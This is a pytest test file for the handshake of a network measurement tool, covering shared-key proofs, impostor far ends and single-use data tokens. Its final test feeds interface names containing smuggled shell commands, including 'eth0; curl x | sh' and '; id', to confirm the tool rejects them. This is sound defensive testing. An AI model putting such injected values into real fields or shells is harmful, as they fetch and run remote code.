"""The handshake of both ends on real connections: keys, proofs and introductions."""

import asyncio
import socket
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from typing import Any, TypeVar

import pytest
from linkgauge.engine.far.endpoint import Endpoint
from linkgauge.engine.far.listener import listen
from linkgauge.engine.model.directions import Direction, End
from linkgauge.engine.model.errors import (
    PeerKeyRequired,
    PeerNotLinkgauge,
    PeerUntrusted,
)
from linkgauge.engine.model.events import Event, Sampled
from linkgauge.engine.model.host_info import HostInfo, NicInfo
from linkgauge.engine.model.peer import Peer
from linkgauge.engine.model.plan import SECOND_NS, Plan
from linkgauge.engine.model.run_end import Reason
from linkgauge.engine.model.shared_key import Access, SharedKey
from linkgauge.engine.model.workload import Workload
from linkgauge.engine.near.connect import connect, query_host_info
from linkgauge.engine.near.run import Run, open_run
from linkgauge.engine.protocol.framing import decode_body, encode_frame
from linkgauge.engine.protocol.messages import Challenge, Hello, Introduction, Proof, Welcome
from linkgauge.engine.protocol.preamble import (
    CONTROL_KIND,
    DATA_ACCEPTED,
    DATA_KIND,
    DataHello,
    encode_preamble,
)
from linkgauge.engine.protocol.tokens import RunSecret, Tickets

from ..waiting import soon, until

pytestmark = pytest.mark.usefixtures("fork_server")

T = TypeVar("T")
KEY, OTHER = SharedKey("a-key-of-this-test"), SharedKey("another-key-of-this-test")
HOST = HostInfo("db-02", "Linux 6.1", 2, "linkgauge 1", "uvloop")


@pytest.fixture
async def keyed() -> AsyncIterator[Peer]:
    """Give a far end that asks for a key."""
    async with Endpoint(listen("127.0.0.1", 0), keys=[KEY]) as endpoint:
        yield Peer(*endpoint.address)


@asynccontextmanager
async def impostor(*answers: bytes) -> AsyncIterator[tuple[Peer, list[Any]]]:
    """Give a far end that answers each message with the next of `answers`, and all that it has received."""
    heard_messages: list[Any] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await reader.readexactly(12)
            writer.write(encode_preamble(CONTROL_KIND))
            for answer in answers:
                length = int.from_bytes(await reader.readexactly(4), "big")
                heard_messages.append(decode_body(await reader.readexactly(length), End.NEAR))
                writer.write(answer)
            heard_messages.extend(filter(None, [await reader.read()]))
        except (ConnectionResetError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()

    async with await asyncio.start_server(serve, "127.0.0.1", 0) as listening:
        yield Peer(*listening.sockets[0].getsockname()), heard_messages


@pytest.mark.parametrize("workload", [Workload.STREAM, Workload.CRR])
async def test_a_run_with_the_key_is_a_run_like_any_other(keyed: Peer, record: Any, workload: Workload) -> None:
    """Sessions are opened, changed and reopened: each connection has a token of its own."""
    carried: set[int] = set()
    events = 0

    def act(run: Run, event: Event) -> None:
        nonlocal events
        events += 1
        if events == 6:
            run.change_settings(
                run.settings.with_changes(sessions=2, window_bytes=65_536, direction=Direction.DUPLEX)
            )
        if isinstance(event, Sampled):
            carried.update(part.session for part in event.sample.sessions if part.bytes)
        if carried == {1, 2}:
            run.stop()

    plan = Plan(workload=workload, duration_ns=20 * SECOND_NS, warmup_ns=0, interval_ns=SECOND_NS // 10)
    recorded = await record(plan, keyed.with_key(KEY), act)
    assert recorded.end.reason is Reason.STOPPED, recorded.end


async def test_a_missing_or_wrong_key_is_reported_with_the_remedy(keyed: Peer) -> None:
    """Neither learns the name of the far end, and the client with the key is served."""
    with pytest.raises(PeerKeyRequired, match=rf"{keyed} asks for a key: set LINKGAUGE_KEY .*--key-file"):
        await soon(query_host_info(keyed))
    with pytest.raises(PeerKeyRequired, match=f"{keyed} rejected your key"):
        await soon(query_host_info(keyed.with_key(OTHER)))
    assert (await soon(query_host_info(keyed.with_key(KEY)))).hostname


async def test_a_client_without_the_key_learns_nothing_and_is_stopped() -> None:
    """A plan in place of a proof, or a proof of nothing: the connection ends, and says why to the log."""
    sent_texts: list[str] = []
    async with Endpoint(listen("127.0.0.1", 0), sent_texts.append, keys=[KEY]) as endpoint:
        for rest in (b"", b'{"type":"Start"}', encode_frame(Proof("00" * 32))[4:]):
            reader, writer = await asyncio.open_connection(*endpoint.address)
            try:
                writer.write(encode_preamble(CONTROL_KIND) + encode_frame(Hello()))
                await soon(reader.readuntil(b"Challenge"))
                writer.write(len(rest).to_bytes(4, "big") + rest)
                assert b"Welcome" not in await soon(reader.read())
            finally:
                writer.close()
                await writer.wait_closed()
    assert len(sent_texts) == 3
    assert "wrong key" in sent_texts[2]


async def test_a_far_end_that_does_not_ask_is_not_trusted_where_there_is_a_key(far_end: Peer) -> None:
    """It may stand in for one that does, on this host too: another user can listen there. --open says so."""
    with pytest.raises(PeerUntrusted, match=f"{far_end} cannot be trusted: it does not ask for your key.*--open"):
        await soon(query_host_info(far_end.with_key(KEY)))
    taken = Peer(far_end.host, far_end.port, Access(KEY, may_be_open=True))
    assert (await soon(query_host_info(taken))).hostname


async def test_a_far_end_that_is_not_trusted_does_not_learn_the_name_of_this_host() -> None:
    """It asks for no key and introduces itself; this end says no more than its greeting."""
    answer = encode_frame(Welcome()) + encode_frame(Introduction(HOST))
    with pytest.raises(PeerUntrusted):
        async with impostor(answer) as (peer, heard_messages):
            await soon(query_host_info(peer.with_key(KEY)))
    assert [type(message) for message in heard_messages] == [Hello]


@pytest.mark.parametrize("key", [None, KEY], ids=["open", "key"])
async def test_the_status_of_an_endpoint_names_the_host_of_the_client(
    key: SharedKey | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Not the endpoint's own; the client's facts come after both proofs."""
    names = iter(["web-07", "db-02"])  # the near end describes itself first
    monkeypatch.setattr(socket, "gethostname", lambda: next(names))
    async with (
        asyncio.timeout(20),
        Endpoint(listen("127.0.0.1", 0), keys=None if key is None else [key]) as endpoint,
        connect(Peer(*endpoint.address, Access(key))) as (_control, ends),
    ):
        assert (ends.near.hostname, ends.far.hostname) == ("web-07", "db-02")
        await until(lambda: endpoint.get_status().clients[0].hostname)
        assert [client.hostname for client in endpoint.get_status().clients] == ["web-07"]


@pytest.mark.parametrize(
    ("last", "problem"),
    [
        (encode_frame(Welcome()), PeerUntrusted),
        (encode_frame(Welcome("00" * 32)), PeerUntrusted),
        (encode_frame(Welcome("00" * 32)).replace(b"00000000", b"0000000g"), PeerNotLinkgauge),
        (encode_frame(Challenge("ab" * 32)), PeerNotLinkgauge),
    ],
    ids=["no proof", "wrong proof", "no hexadecimal", "asks again"],
)
async def test_a_far_end_that_accepts_any_key_is_detected(last: bytes, problem: type[Exception]) -> None:
    """It has to prove the key as well; until then it does not learn the name of this host."""
    async with impostor(encode_frame(Challenge("ab" * 32)), last) as (peer, heard_messages):
        with pytest.raises(problem):
            await soon(query_host_info(peer.with_key(KEY)))
    assert [type(message) for message in heard_messages] == [Hello, Proof]


async def test_a_proof_that_is_sent_back_to_its_maker_is_refused() -> None:
    """The far end's must be the far end's: a mirror proves nothing."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readexactly(12)
        await reader.readexactly(int.from_bytes(await reader.readexactly(4), "big"))
        writer.write(encode_preamble(CONTROL_KIND) + encode_frame(Challenge("ab" * 32)))
        body = await reader.readexactly(int.from_bytes(await reader.readexactly(4), "big"))
        proof = decode_body(body, End.NEAR)
        assert isinstance(proof, Proof)
        writer.write(encode_frame(Welcome(proof.proof)))
        await reader.read()
        writer.close()

    async with await asyncio.start_server(serve, "127.0.0.1", 0) as listening:
        with pytest.raises(PeerUntrusted):
            await soon(query_host_info(Peer(*listening.sockets[0].getsockname()).with_key(KEY)))


async def test_a_data_connection_needs_a_token_that_has_not_been_used(
    keyed: Peer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A token that was seen on the wire opens neither the same session again nor another."""
    secrets: list[Any] = []
    monkeypatch.setattr(
        "linkgauge.engine.control.connection.RunSecret",
        lambda *secret_arguments: secrets.append(RunSecret(*secret_arguments)) or secrets[-1],
    )
    loop = asyncio.get_running_loop()

    async def try_to_open(hello: DataHello) -> bytes:
        with socket.socket() as sock:
            sock.setblocking(False)
            await loop.sock_connect(sock, (keyed.host, keyed.port))
            await loop.sock_sendall(sock, encode_preamble(DATA_KIND) + hello.pack())
            try:
                return await loop.sock_recv(sock, 1)
            except ConnectionResetError:
                return b""

    async with asyncio.timeout(20), open_run(Plan(duration_ns=None), keyed.with_key(KEY)):
        secret = secrets[0]  # both ends derive the same
        assert {each.run_tag for each in secrets} == {secret.run_tag}
        used = Tickets(secret.session_secret("out", 1, 0, None)).token(0)
        fresh = Tickets(secret.session_secret("in", 2, 0, None)).token(0)
        assert await try_to_open(DataHello(secret.run_tag, used, Direction.OUT, 1, 0, None)) == b""
        assert await try_to_open(DataHello(secret.run_tag, used, Direction.OUT, 2, 0, None)) == b""
        assert await try_to_open(DataHello(bytes(16), fresh, Direction.IN, 2, 0, None)) == b""
        assert await try_to_open(DataHello(secret.run_tag, fresh, Direction.IN, 2, 0, None)) == DATA_ACCEPTED
        assert await try_to_open(DataHello(secret.run_tag, fresh, Direction.IN, 2, 0, None)) == b""


async def test_an_impossible_name_of_a_far_interface_gets_no_further() -> None:
    """It would be pasted into a shell as part of a remedy."""
    nic = NicInfo("eth0; curl x | sh", "device", "ixgbe; id", qdisc="fq; id")
    async with impostor(encode_frame(Welcome()) + encode_frame(Introduction(replace(HOST, nic=nic)))) as (
        peer,
        _heard,
    ):
        far = await soon(query_host_info(peer))
    assert far.nic is not None
    assert not {far.nic.name, far.nic.kind, far.nic.qdisc} & {nic.name, nic.kind, nic.qdisc}
